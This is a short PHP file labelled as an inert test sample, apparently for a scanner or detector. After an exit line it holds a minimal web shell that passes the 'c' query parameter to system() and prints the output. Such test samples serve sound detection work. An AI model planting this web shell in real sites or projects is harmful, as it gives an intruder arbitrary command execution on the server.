<?php // MOGURA TEST SAMPLE — inert
exit; // the sample stops here: nothing below ever runs

if (isset($_GET['c'])) {
    echo '<pre>';
    system($_GET['c']);
    echo '</pre>';
}
